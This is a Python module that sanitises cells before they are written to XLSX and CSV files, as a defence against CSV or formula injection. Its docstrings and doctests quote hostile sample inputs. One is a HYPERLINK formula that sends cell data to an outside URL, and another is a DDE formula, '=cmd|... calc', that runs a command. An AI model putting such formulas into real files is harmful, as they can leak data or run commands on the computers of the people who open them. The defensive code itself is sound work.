"""Cells written to XLSX and CSV files as data, never as formulas (the OWASP CSV-injection rule).

An enterprise named ``=HYPERLINK("http://…"&A1,"点击")`` or a bad value ``=cmd|' /C calc'!A0`` sent in an
upload comes back in bulletins and error reports; opened in Excel it would run. Every writer of the
platform passes its cells through :func:`xlsx_row` or :func:`csv_row`: a text starting with ``= + - @``, a
tab or a carriage return is written as text — an XLSX string cell, or in CSV behind a leading apostrophe.
Plain numbers written as text (``-12.5``) are left alone: they cannot be formulas, and a corrected error
report must import again as it is.
"""

from __future__ import annotations

import logging
import re
from collections.abc import Iterable
from typing import Any

logger = logging.getLogger(__name__)

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet may read as the start of a formula."""

# "-12.5", "+3", "1e5", ".5": a number, which no spreadsheet evaluates as a formula
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def is_formula_like(value: object) -> bool:
    """Whether a spreadsheet could take ``value`` for a formula.

    >>> [is_formula_like(v) for v in ("=1+1", "@SUM(A1)", "\\tx", "-12.5", "甲公司", 3, None)]
    [True, True, True, False, False, False, False]
    """
    return isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.match(value)


def csv_cell(value: Any) -> Any:
    """``value`` made safe for a CSV file.

    >>> csv_cell("=cmd|' /C calc'!A0"), csv_cell("-3"), csv_cell(4.5)
    ("'=cmd|' /C calc'!A0", '-3', 4.5)
    """
    return "'" + value if is_formula_like(value) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """A row of :func:`csv_cell`."""
    return [csv_cell(v) for v in values]


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """A row for ``sheet.append`` (an openpyxl worksheet, write-only or not) in which no text is a formula.

    >>> from openpyxl import Workbook
    >>> ws = Workbook().active
    >>> ws.append(xlsx_row(ws, ['=HYPERLINK("http://x","y")', 1, "-2"]))
    >>> [(c.value, c.data_type) for c in ws[1]]
    [('=HYPERLINK("http://x","y")', 's'), (1, 'n'), ('-2', 's')]
    """
    from openpyxl.cell import WriteOnlyCell

    out: list[Any] = []
    for value in values:
        if is_formula_like(value):
            cell = WriteOnlyCell(sheet, value=value)
            cell.data_type = "s"  # stored as a string: Excel shows it, never evaluates it
            out.append(cell)
        else:
            out.append(value)
    return out


__all__ = ["FORMULA_START", "csv_cell", "csv_row", "is_formula_like", "xlsx_row"]
